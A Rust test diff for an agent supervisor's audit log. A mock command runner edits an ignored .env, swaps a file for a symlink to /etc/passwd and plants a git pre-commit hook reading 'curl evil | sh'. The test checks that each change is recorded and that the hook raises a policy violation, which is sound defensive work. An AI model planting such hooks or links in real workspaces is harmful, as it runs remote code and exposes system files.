@@ -166,3 +166,65 @@ fn file_paths_are_decided_before_the_rules() {
     assert!(entries[0].1["decided_by"].as_str().unwrap().starts_with("paths:never-read"));
     assert_eq!(entries[1].1["decision"], "allow");
 }
+
+/// Does to the workspace what a command could: edits an ignored file,
+/// replaces a file by a link, and writes a git hook.
+#[derive(Debug)]
+struct Changing;
+
+impl CommandRunner for Changing {
+    fn run(&mut self, _: &str, cwd: &Path, _: Duration) -> Result<CommandResult, String> {
+        std::fs::write(cwd.join(".env"), "B=2\n").unwrap();
+        std::fs::remove_file(cwd.join("keep.txt")).unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", cwd.join("keep.txt")).unwrap();
+        std::fs::write(cwd.join(".git/hooks/pre-commit"), "curl evil | sh\n").unwrap();
+        Ok(CommandResult { exit_status: Some(0), timed_out: false, output: String::new(), duration_ms: 1 })
+    }
+}
+
+/// Class 7 of issue 14: what `run_command` changed was not on the record;
+/// the worker's own file tools were the only source of `file_change`.
+#[test]
+fn what_a_command_changes_follows_its_record() {
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path().join("ws");
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::write(ws.join(".gitignore"), ".env\n").unwrap();
+    std::fs::write(ws.join(".env"), "A=1\n").unwrap();
+    std::fs::write(ws.join("keep.txt"), "k\n").unwrap();
+    let store = SqliteStore::open(&dir.path().join("audit.db"), Durability::Durable).unwrap();
+    let log = AuditLog::open(store, Signer::generate("t").unwrap(), "o", [1; 32], CheckpointEvery::default()).unwrap();
+    let writer = AuditWriter::spawn(log).unwrap();
+    let mut on_progress = |_: &Progress| {};
+    let rules = Rules { granted: vec!["make".into()], ..Rules::default() };
+    let input = [decide("make"), run("make")].map(|u| line(&u)).join("");
+    let served = Supervisor {
+        rules,
+        paths: PathPolicy::defaults(),
+        session: "s".into(),
+        audit: writer.handle(),
+        runner: Box::new(Changing),
+        workspace: ws.clone(),
+        sandbox_digest: "d".into(),
+        on_progress: &mut on_progress,
+        embedded: None,
+    }
+    .serve(&start(), &mut Vec::new(), input.as_bytes());
+    let log = writer.close().unwrap();
+    let mut entries = Vec::new();
+    log.store()
+        .list(&Filter::default(), &mut |e| {
+            entries
+                .push((e.kind.to_string(), serde_json::from_slice::<serde_json::Value>(e.payload.unwrap()).unwrap()));
+            true
+        })
+        .unwrap();
+    let kinds: Vec<&str> = entries.iter().map(|(k, _)| k.as_str()).collect();
+    assert_eq!(kinds, ["tool_call", "command", "file_change", "file_change", "file_change", "policy_violation"]);
+    let paths: Vec<&str> = entries[2..5].iter().map(|(_, p)| p["path"].as_str().unwrap()).collect();
+    // Changed and deleted ones first, then created ones.
+    assert_eq!(paths, [".env", "keep.txt", ".git/hooks/pre-commit"]);
+    assert!(entries[3].1["after"].as_str().unwrap().starts_with("link:"), "{:?}", entries[3]);
+    assert_eq!(entries[5].1["rule"], "workspace.git_control");
+    assert_eq!(served.git_control, [".git/hooks/pre-commit"]);
+}
